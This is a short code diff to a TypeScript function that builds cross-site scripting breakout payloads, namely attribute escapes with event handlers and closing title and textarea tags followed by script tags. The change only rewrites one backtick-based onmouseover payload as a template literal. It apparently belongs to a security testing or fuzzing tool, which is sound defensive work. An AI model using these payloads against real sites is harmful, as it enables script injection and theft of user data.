@@ -10,7 +10,7 @@ export function breakouts(run: string, outside: string): string[] {
     `' autofocus onfocus='${run}' x='`,
     `" style="animation-name:spin" onanimationstart="${run}`,
     `x onpointerrawupdate=${run}`,
-    '` onmouseover=`' + run,
+    `\` onmouseover=\`${run}`,
     `"/onfocus="${run}"/autofocus="`,
     `</title><script>${run}</script>`,
     `</textarea><script>${run}</script>`,
